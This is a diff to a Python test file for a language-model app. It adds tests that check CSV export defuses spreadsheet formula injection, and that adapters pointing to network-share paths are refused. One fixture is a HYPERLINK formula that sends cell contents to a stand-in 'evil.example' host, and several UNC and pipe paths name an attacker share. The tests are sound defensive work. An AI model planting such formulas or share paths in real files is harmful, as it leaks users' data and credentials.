@@ -1,5 +1,7 @@
 """The app without Streamlit: its command's plan, its list of models, what it draws, its probabilities."""
 
+import csv
+import io
 import shutil
 import socket
 import sys
@@ -17,9 +19,10 @@ from companion.commands import app_command
 from companion.generation import LanguageModel
 from companion.gpt import GPTConfig, gpt2
 from companion.lora import add_lora, save_adapter
+from companion.runtime.adapters import on_network
 from companion.runtime.labelled import read_texts
 from companion.serve import marks
-from companion.serve.classifying import check_texts
+from companion.serve.classifying import as_csv, check_texts
 from companion.serve.drawing import Drawing, Seen
 from companion.serve.offered import Offer, find_offered
 from companion.tokenization import BPETokenizer
@@ -286,3 +289,43 @@ def test_a_text_that_is_too_long_is_named_by_its_place():
     check_texts(reader, ["abc"], ["line 2"])
     with pytest.raises(ValueError, match="line 3 has 4 tokens, and the model reads 3"):
         check_texts(reader, ["abc", "abcd"], ["line 2", "line 3"])
+
+
+# -- the table to download
+
+
+@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
+def test_no_cell_of_the_table_is_a_formula(begin):
+    text = f'{begin}HYPERLINK("http://evil.example?"&A1)'
+    table = as_csv([text, "plain, and -1"], [{begin + "spam": 0.75, "ham": 0.25}] * 2)
+    head, first, second = csv.reader(io.StringIO(table, newline=""))
+    assert head == ["text", "class", f"'{begin}spam", "ham"]
+    assert first == [f"'{text}", f"'{begin}spam", "0.7500", "0.2500"]
+    assert second[0] == "plain, and -1"
+
+
+# -- strangers' adapters
+
+
+@pytest.mark.parametrize(
+    "name", [r"\\evil\share\model", "//evil/share", r"\\?\UNC\evil\share", r"\\.\pipe\x", r"\/evil\share"]
+)
+def test_a_path_of_another_computer_is_known_by_its_form(name):
+    assert on_network(name)
+
+
+@pytest.mark.parametrize(
+    "name", ["base", "../base", "/models/base", r"C:\models\base", "owner/name", r"\base"]
+)
+def test_a_path_of_this_computer_is_no_path_of_another(name):
+    assert not on_network(name)
+
+
+def test_an_adapter_that_names_another_computer_is_not_listed(tmp_path):
+    """Nor is the path looked at, which would already send the user's name there."""
+    model = gpt2(GPTConfig(300, 8, 1, 1, 8))
+    add_lora(model, rank=2)
+    save_adapter(model, tmp_path / "evil", base=r"\\evil\share")
+    assert find_offered([tmp_path]) == []
+    with pytest.raises(ValueError, match="is on another computer; copy that model"):
+        load(tmp_path / "evil")
